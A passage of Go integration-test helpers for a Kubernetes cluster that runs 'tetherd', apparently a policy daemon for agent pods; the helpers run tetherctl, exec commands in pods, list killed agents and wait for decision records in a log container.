	const capSysResource = 24
	if bounding&(1<<capSysResource) == 0 {
		c.t.Log("CAP_SYS_RESOURCE is not in this machine's bounding set: the chart is installed without it (omitCapabilities)")
		return []string{"SYS_RESOURCE"}
	}
	return []string{}
}

// tetherRun is the node directory of tetherd's sockets (the chart's hostPaths.run).
func (c *cluster) tetherRun() string { return filepath.Join(c.dir, "tether-run") }

// tetherctl runs tetherctl in tetherd's pod.
func (c *cluster) tetherctl(args ...string) (string, error) {
	return c.kubectl(append([]string{"-n", Namespace, "exec", "ds/tether", "--", "tetherctl"}, args...)...)
}

// podExec runs a command in a pod of the agents namespace (never in a frozen one: runc's exec
// would join the frozen cgroup and wait; 30 seconds bound it).
func (c *cluster) podExec(pod string, args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, filepath.Join(c.bin, "kubectl"), append([]string{"--kubeconfig", c.kubeconfig, "-n", agentNS, "exec", pod, "--"}, args...)...)
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// killedAgents is tetherd's agents with their killed flags, by pod cgroup.
func (c *cluster) killedAgents(t *testing.T) map[string]bool {
	t.Helper()
	out, err := c.tetherctl("agents", "-o", "json")
	if err != nil {
		t.Fatalf("tetherctl agents: %v\n%s", err, out)
	}
	var list []struct {
		Cgroup string `json:"cgroup"`
		Killed bool   `json:"killed"`
	}
	if err := json.Unmarshal([]byte(out), &list); err != nil {
		t.Fatalf("tetherctl agents -o json: %v\n%s", err, out)
	}
	m := map[string]bool{}
	for _, a := range list {
		m[filepath.Base(a.Cgroup)] = a.Killed
	}
	return m
}

// record is what the node test reads of tetherd's decision records.
type record struct {
	Kind        string    `json:"kind"`
	Verdict     string    `json:"verdict"`
	Reason      string    `json:"reason"`
	SpiffeID    string    `json:"spiffe_id"`
	Destination string    `json:"destination"`
	Executable  string    `json:"executable"`
	PID         uint32    `json:"pid"`
	Timestamp   time.Time `json:"timestamp"`
	Kubernetes  *podRef   `json:"kubernetes"`
	DNS         *struct {
		Name  string `json:"name"`
		Rcode string `json:"rcode"`
	} `json:"dns"`
}

type podRef struct {
	Node      string `json:"node"`
	Namespace string `json:"namespace"`
	Pod       string `json:"pod"`
	Container string `json:"container"`
}

// waitRecord waits for a decision record that match accepts in the decisions container's log
// (decisionLog.export: container: tetherd's records alone, copied from its decision log file).
func (c *cluster) waitRecord(t *testing.T, match func(record) bool) record {
	t.Helper()
	var found record
	waitFor(t, 30*time.Second, "the record", func() error {
		out, err := c.kubectl("-n", Namespace, "logs", "ds/tether", "-c", "decisions")
		if err != nil {
			return fmt.Errorf("%v: %s", err, out)
		}
		for _, line := range strings.Split(out, "\n") {
			var r record
			if json.Unmarshal([]byte(line), &r) == nil && match(r) {
				found = r
				return nil
			}
		}
		return fmt.Errorf("not in the decisions container's log (%d lines)", strings.Count(out, "\n"))
	})
	return found
}
